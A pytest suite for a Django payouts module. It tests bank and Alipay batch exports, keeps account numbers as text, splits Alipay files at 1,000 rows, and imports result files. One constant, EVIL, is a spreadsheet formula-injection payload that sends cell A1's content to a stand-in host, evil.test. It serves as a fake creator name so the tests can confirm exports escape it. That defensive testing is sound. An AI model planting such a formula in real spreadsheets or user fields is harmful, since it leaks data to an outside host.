"""Rails: the bank 代发 sheet (CSV, XLSX) and the Alipay batch file parse back with their columns,
account numbers stay text, names cannot run as formulas, Alipay splits at 1,000; a result file
marks items paid or failed through the core and refuses bad rows one by one."""

from __future__ import annotations

import csv
import datetime
import io
import uuid
import zipfile

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from apps.common.exceptions import ApplicationError
from apps.payouts.details import payout_details_set
from apps.payouts.exports import payout_batch_export, payout_results_import
from apps.payouts.models import PayoutBatch, PayoutDetails, PayoutItem
from apps.payouts.rails import RAILS, ExportLine
from apps.payouts.rails.alipay import AlipayRail
from apps.payouts.services import payout_batch_approve, payout_batch_prepare
from tests.payouts.conftest import Payouts, Purpose, give_payout_details

pytestmark = pytest.mark.django_db

CARD = "6222021234567891234"  # 19 digits: as a float it would come back 6.22202123456789e18
EVIL = '=HYPERLINK("http://evil.test/?x="&A1,"click")'


def _bank(creator, *, account: str = CARD, real_name: str = "张三") -> PayoutDetails:  # type: ignore[no-untyped-def]
    details = payout_details_set(
        creator=creator,
        actor=creator.user,
        method="bank",
        real_name=real_name,
        account=account,
        bank_name="中国工商银行",
        bank_branch="北京朝阳支行",
    )
    PayoutDetails.objects.filter(pk=details.pk).update(changed_at=timezone.now() - datetime.timedelta(days=2))
    return details


def _approved(payouts: Payouts) -> PayoutBatch:
    batch = payout_batch_prepare(agency=payouts.agency, actor=payouts.world.finance_a)
    return payout_batch_approve(batch=batch, actor=payouts.finance_b)


@pytest.fixture
def batch(payouts: Payouts) -> PayoutBatch:
    world = payouts.world
    _bank(world.creator_a)
    _bank(world.creator_a2, account="6222000011112222", real_name=EVIL)
    payouts.owe(world.creator_a, 500_000, key="a")  # net 4,200.00
    payouts.owe(world.creator_a2, 20_050, key="a2")  # net 200.50
    return _approved(payouts)


def _item(batch: PayoutBatch, creator) -> PayoutItem:  # type: ignore[no-untyped-def]
    return batch.items.get(creator=creator)


def test_the_bank_xlsx_keeps_account_numbers_as_text(payouts: Payouts, batch: PayoutBatch) -> None:
    export = payout_batch_export(batch=batch, actor=payouts.world.finance_a, rail_name="bank_xlsx")

    assert export.file.filename.endswith(".xlsx")
    sheet = load_workbook(io.BytesIO(export.file.content)).active
    rows = list(sheet.iter_rows())
    assert [cell.value for cell in rows[0]] == [
        "商户流水号",
        "收款账号",
        "收款户名",
        "收款银行",
        "开户支行",
        "金额",
        "用途",
    ]
    assert len(rows) == 3  # the header and one row per payout: no total row
    by_account = {row[1].value: row for row in rows[1:]}
    card = by_account[CARD]
    # A string cell: all 19 digits, not a number Excel would round to 15 significant digits.
    assert card[1].data_type == "s" and card[1].value == CARD
    assert card[1].number_format == "@"
    assert card[0].value == str(_item(batch, payouts.world.creator_a).public_id)
    assert (card[2].value, card[3].value, card[4].value, card[5].value) == (
        "张三",
        "中国工商银行",
        "北京朝阳支行",
        "4200.00",
    )
    assert card[5].data_type == "s"
    # The formula-looking real name is a text cell with a leading apostrophe, never a formula.
    evil = by_account["6222000011112222"]
    assert evil[2].data_type == "s" and evil[2].value == "'" + EVIL
    assert evil[5].value == "200.50"
    assert PayoutBatch.objects.get(pk=batch.pk).status == PayoutBatch.Status.EXPORTED


def test_the_bank_csv_has_the_same_columns_and_escapes_names(payouts: Payouts, batch: PayoutBatch) -> None:
    export = payout_batch_export(batch=batch, actor=payouts.world.finance_a, rail_name="bank_csv")

    assert export.file.content.startswith(b"\xef\xbb\xbf")  # Excel reads the Chinese as UTF-8
    rows = list(csv.reader(io.StringIO(export.file.content.decode("utf-8-sig"))))
    assert rows[0] == ["商户流水号", "收款账号", "收款户名", "收款银行", "开户支行", "金额", "用途"]
    assert len(rows) == 3
    names = {row[1]: row[2] for row in rows[1:]}
    assert names == {CARD: "张三", "6222000011112222": "'" + EVIL}
    assert sorted(row[5] for row in rows[1:]) == ["200.50", "4200.00"]


def test_the_agency_details_stay_masked_but_the_export_is_whole(payouts: Payouts, batch: PayoutBatch) -> None:
    export = payout_batch_export(batch=batch, actor=payouts.world.finance_a, rail_name="bank_csv")
    assert CARD.encode() in export.file.content


def test_alipay_file_columns_and_a_creator_paid_by_bank_is_left_out(payouts: Payouts) -> None:
    world = payouts.world
    _bank(world.creator_a)
    alipay = payout_details_set(
        creator=world.creator_a2,
        actor=world.creator_a2.user,
        method="alipay",
        real_name="李四",
        account="13812345678",
    )
    PayoutDetails.objects.filter(pk=alipay.pk).update(changed_at=timezone.now() - datetime.timedelta(days=2))
    payouts.owe(world.creator_a, 500_000, key="a")
    payouts.owe(world.creator_a2, 30_000, key="a2")
    batch = _approved(payouts)

    export = payout_batch_export(batch=batch, actor=world.finance_a, rail_name="alipay")

    rows = list(csv.reader(io.StringIO(export.file.content.decode("utf-8-sig"))))
    assert rows[0] == ["商户流水号", "收款方支付宝账号", "收款方姓名", "金额", "备注"]
    assert rows[1][1:4] == ["13812345678", "李四", "300.00"]
    assert len(rows) == 2
    assert [(left.creator_name, left.why) for left in export.left_out] == [
        ("Creator A", "Paid by Bank account: export it with that rail.")
    ]


def test_alipay_splits_2500_payouts_into_three_files_of_at_most_1000(payouts: Payouts) -> None:
    lines = [
        ExportLine(str(uuid.uuid4()), f"name{n}", f"1{n:010d}", "", "", 10_000 + n, "memo")
        for n in range(2_500)
    ]
    batch = PayoutBatch(period="2026-12", public_id=uuid.uuid4())

    export = AlipayRail().export(batch, lines)

    assert export.filename.endswith(".zip") and export.content_type == "application/zip"
    with zipfile.ZipFile(io.BytesIO(export.content)) as archive:
        names = sorted(archive.namelist())
        counts = [len(archive.read(name).decode("utf-8-sig").strip().split("\r\n")) - 1 for name in names]
        first = archive.read(names[0]).decode("utf-8-sig").split("\r\n")[0]
    assert counts == [1_000, 1_000, 500]
    assert first == "商户流水号,收款方支付宝账号,收款方姓名,金额,备注"
    assert len(AlipayRail().export(batch, lines[:1_000]).content) > 0
    assert AlipayRail().export(batch, lines[:1_000]).filename.endswith(".csv")  # 1,000 fit in one file


def test_a_change_of_details_after_preparation_holds_the_item_out_of_the_file(
    payouts: Payouts, batch: PayoutBatch
) -> None:
    creator = payouts.world.creator_a2
    payout_details_set(
        creator=creator,
        actor=creator.user,
        method="bank",
        real_name="Thief",
        account="6222999999999999",
        bank_name="某银行",
    )

    export = payout_batch_export(batch=batch, actor=payouts.world.finance_a, rail_name="bank_csv")

    assert b"6222999999999999" not in export.file.content and b"6222000011112222" not in export.file.content
    assert export.exported == 1
    assert [left.creator_name for left in export.left_out] == ["Creator A2"]
    assert "held for 24 hours" in export.left_out[0].why


def test_exporting_needs_an_approved_batch_and_a_payout_role(payouts: Payouts) -> None:
    world = payouts.world
    _bank(world.creator_a)
    payouts.owe(world.creator_a, 500_000, key="a")
    batch = payout_batch_prepare(agency=payouts.agency, actor=world.finance_a)
    with pytest.raises(ApplicationError, match="not approved yet"):
        payout_batch_export(batch=batch, actor=world.finance_a, rail_name="bank_csv")
    payout_batch_approve(batch=batch, actor=payouts.finance_b)
    with pytest.raises(ApplicationError) as refused:
        payout_batch_export(batch=batch, actor=world.manager_a, rail_name="bank_csv")
    assert refused.value.status == 403
    with pytest.raises(ApplicationError, match="is not a rail"):
        payout_batch_export(batch=batch, actor=world.finance_a, rail_name="cash")
    assert PayoutBatch.objects.get(pk=batch.pk).status == PayoutBatch.Status.APPROVED


def test_every_rail_keeps_the_interface() -> None:
    assert set(RAILS) == {"bank_xlsx", "bank_csv", "alipay", "wechat"}
    for rail in RAILS.values():
        assert callable(rail.export) and callable(rail.parse_result) and callable(rail.refusal)
        assert rail.method in {"bank", "alipay", "wechat"}


# --- result files ------------------------------------------------------------------------------------


def _result(*rows: list[str]) -> io.BytesIO:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["item_reference", "status", "reference", "reason", "amount"])
    writer.writerows(rows)
    return io.BytesIO(buffer.getvalue().encode("utf-8"))


def test_a_result_file_marks_items_and_refuses_bad_rows_one_by_one(
    payouts: Payouts, batch: PayoutBatch
) -> None:
    world = payouts.world
    payout_batch_export(batch=batch, actor=world.finance_a, rail_name="bank_csv")
    a, a2 = _item(batch, world.creator_a), _item(batch, world.creator_a2)
    owed_before = payouts.owed(world.creator_a2)

    outcomes = payout_results_import(
        batch=batch,
        actor=world.finance_a,
        rail_name="bank_csv",
        file=_result(
            [str(a.public_id), "paid", "ICBC-0001", "", "4200.00"],
            [str(uuid.uuid4()), "paid", "ICBC-0002", "", "1.00"],  # unknown item
            [str(a.public_id), "paid", "ICBC-0003", "", "4200.00"],  # already paid (row 2)
            [str(a2.public_id), "paid", "ICBC-0004", "", "999.00"],  # a different amount
            [str(a2.public_id), "refunded", "", "", "200.50"],  # not a status
            [str(a2.public_id), "failed", "", "户名不符 (name does not match)", "200.50"],
        ),
    )

    assert [(outcome.row, outcome.outcome) for outcome in outcomes] == [
        (2, "paid"),
        (3, "error"),
        (4, "error"),
        (5, "error"),
        (6, "error"),
        (7, "failed"),
    ]
    assert "No payout" in outcomes[1].message
    assert "already paid" in outcomes[2].message and "ICBC-0001" in outcomes[2].message
    assert "¥999.00" in outcomes[3].message and "¥200.50" in outcomes[3].message
    assert "paid or failed" in outcomes[4].message
    a.refresh_from_db()
    a2.refresh_from_db()
    assert (a.status, a.reference) == ("paid", "ICBC-0001")
    assert (a2.status, a2.failure_reason) == ("failed", "户名不符 (name does not match)")
    # The failed payout's money (net and tax) is back in the creator's balance; the batch is settled.
    assert payouts.owed(world.creator_a2) == owed_before + a2.gross_minor
    assert payouts.balance(Purpose.PAYOUTS_IN_FLIGHT) == 0
    assert PayoutBatch.objects.get(pk=batch.pk).status == PayoutBatch.Status.CLOSED


def test_a_result_file_before_the_export_changes_nothing(payouts: Payouts, batch: PayoutBatch) -> None:
    item = _item(batch, payouts.world.creator_a)
    outcomes = payout_results_import(
        batch=batch,
        actor=payouts.world.finance_a,
        rail_name="bank_csv",
        file=_result([str(item.public_id), "paid", "X-1", "", "4200.00"]),
    )
    assert outcomes[0].outcome == "error" and "Export the batch" in outcomes[0].message
    item.refresh_from_db()
    assert item.status == "approved"


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "empty"),
        (b"item_reference,reference\r\nx,y\r\n", "lacks status, amount"),
        (b"item_reference,status,amount\r\n", "no rows"),
    ],
)
def test_an_unreadable_result_file_is_refused_whole(
    payouts: Payouts, batch: PayoutBatch, content: bytes, message: str
) -> None:
    with pytest.raises(ApplicationError, match=message):
        payout_results_import(
            batch=batch, actor=payouts.world.finance_a, rail_name="bank_csv", file=io.BytesIO(content)
        )


def test_the_result_file_may_use_the_chinese_headers_and_gbk(payouts: Payouts, batch: PayoutBatch) -> None:
    payout_batch_export(batch=batch, actor=payouts.world.finance_a, rail_name="bank_csv")
    item = _item(batch, payouts.world.creator_a)
    text = f'商户流水号,状态,流水号,失败原因,金额\r\n\'{item.public_id},成功,ICBC-9,,"4,200.00"\r\n'
    outcomes = payout_results_import(
        batch=batch, actor=payouts.world.finance_a, rail_name="bank_csv", file=io.BytesIO(text.encode("gbk"))
    )
    assert [outcome.outcome for outcome in outcomes] == ["paid"]


def test_give_payout_details_helper_is_past_the_hold(payouts: Payouts) -> None:
    details = give_payout_details(payouts.new_creator("Helper"))
    assert details.changed_at < timezone.now() - datetime.timedelta(hours=24)
